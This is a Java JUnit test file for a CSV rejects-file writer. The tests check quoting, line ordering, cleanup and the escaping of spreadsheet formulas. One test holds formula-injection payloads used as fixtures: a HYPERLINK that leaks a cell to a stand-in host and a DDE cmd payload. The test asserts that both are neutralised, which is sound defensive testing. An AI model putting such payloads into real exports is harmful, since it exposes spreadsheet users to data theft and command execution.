package io.ogsm.connector.source.csv;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;

/** The rejects file: line and reason first, then the row as read, in the file's own delimiter. */
class CsvRejectsTest {

    @TempDir
    Path dir;

    @Test
    void writesLineReasonAndTheOriginalValues() throws Exception {
        Path file = dir.resolve("r.csv");
        CsvRejects rejects = new CsvRejects(file, List.of("id", "date", "value", "description"), ';');
        rejects.add(3, "value 'n/a' is not a number", List.of("31", "2026-10-01", "n/a", "a; b"));
        rejects.add(7, "two\nlines", List.of("32", "2026-10-01", "1"));
        rejects.close();
        assertEquals("line;reason;id;date;value;description\r\n"
                + "3;value 'n/a' is not a number;31;2026-10-01;n/a;\"a; b\"\r\n"
                + "7;\"two\nlines\";32;2026-10-01;1\r\n", Files.readString(file));
        assertEquals(2, rejects.count());
        assertEquals(file, rejects.file());
    }

    @Test
    void aRejectsFileDroppedAgainDoesNotRepeatLineAndReason() throws Exception {
        Path file = dir.resolve("r.csv");
        CsvRejects rejects = new CsvRejects(file, List.of("Line", "reason", "id", "at", "value"), ',');
        rejects.add(2, "still wrong", List.of("4", "old reason", "31", "x", "1"));
        rejects.close();
        assertEquals("line,reason,id,at,value\r\n2,still wrong,31,x,1\r\n", Files.readString(file));
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasAreMarkedTheHeaderToo() throws Exception {
        Path file = dir.resolve("r.csv");
        CsvRejects rejects = new CsvRejects(file, List.of("=id", "title", "value"), ',');
        rejects.add(2, "not found", List.of("=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
                "@SUM(1+1)"));
        rejects.add(3, "not a number", List.of("-2+3", "\tTab", "\rCR"));
        rejects.add(4, "fine", List.of("31", "Cost = 5", "'quoted"));
        rejects.close();
        assertEquals("line,reason,'=id,title,value\r\n"
                + "2,not found,\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,'@SUM(1+1)\r\n"
                + "3,not a number,'-2+3,'\tTab,\"'\rCR\"\r\n"
                + "4,fine,31,Cost = 5,'quoted\r\n", Files.readString(file));
    }

    @Test
    void aRejectsFileDroppedAgainIsReadWithoutTheMarks() throws Exception {
        List<CsvResult> results = CsvMeasurementsTest.read("line,reason,type,id,at,value\r\n"
                + "2,not a number,kpi,31,2026-10-01,'-2.5\r\n", CsvOptions.defaults());
        CsvResult.Row row = org.junit.jupiter.api.Assertions.assertInstanceOf(CsvResult.Row.class, results.get(0),
                results::toString);
        assertEquals(new java.math.BigDecimal("-2.5"), row.measurement().value());
        assertEquals(List.of("-2", "'x", "=y"), CsvRejects.unmarked(List.of("'-2", "'x", "'=y")));
    }

    @Test
    void nothingRejectedMeansNoFileAndLeftoversAreRemoved() throws Exception {
        Path file = dir.resolve("r.csv");
        Files.writeString(file, "from a run that crashed");
        CsvRejects rejects = new CsvRejects(file, List.of("id"), ',');
        rejects.close();
        assertNull(rejects.file());
        assertFalse(Files.exists(file));
    }

    @Test
    void aVeryLongReasonIsCut() throws Exception {
        Path file = dir.resolve("r.csv");
        CsvRejects rejects = new CsvRejects(file, List.of("id"), ',');
        rejects.add(2, "x".repeat(5000), List.of("1"));
        rejects.close();
        assertEquals(CsvRejects.MAX_REASON + 1, Files.readAllLines(file).get(1).split(",")[1].length());
    }

    /** Rows settle in parallel, so rejects come out of order; the file a user opens is in line order. */
    @Test
    void rejectsAreInLineOrderOnceClosedInRunsToo() throws Exception {
        for (int runSize : List.of(CsvRejects.RUN, 3)) {
            Path file = dir.resolve("r" + runSize + ".csv");
            CsvRejects rejects = new CsvRejects(file, List.of("id", "description"), ',', runSize);
            List<Long> lines = new java.util.ArrayList<>(java.util.stream.LongStream.rangeClosed(2, 40).boxed().toList());
            java.util.Collections.shuffle(lines, new java.util.Random(7));
            for (long line : lines) {
                rejects.add(line, "why\n" + line, List.of("=" + line, "two\nlines"));
            }
            rejects.close();
            List<org.apache.commons.csv.CSVRecord> records = org.apache.commons.csv.CSVFormat.DEFAULT
                    .parse(Files.newBufferedReader(file)).getRecords();
            assertEquals(List.of("line", "reason", "id", "description"), records.get(0).toList());
            assertEquals(java.util.stream.LongStream.rangeClosed(2, 40).mapToObj(Long::toString).toList(),
                    records.subList(1, records.size()).stream().map(r -> r.get(0)).toList(), "run size " + runSize);
            assertEquals(List.of("17", "why\n17", "'=17", "two\nlines"), records.get(16).toList(),
                    "rows as written, formula marks kept");
            try (var left = Files.list(dir)) {
                assertEquals(0, left.filter(f -> f.getFileName().toString().contains(".run")
                        || f.getFileName().toString().endsWith(".sorted")).count(), "no run files left");
            }
        }
    }

    @Test
    void countsAreWrittenWithTheirPlurals() {
        assertEquals("1 row", CsvDropFile.count(1, "row"));
        assertEquals("0 rows", CsvDropFile.count(0, "row"));
        assertEquals("2 duplicates", CsvDropFile.count(2, "duplicate"));
    }
}
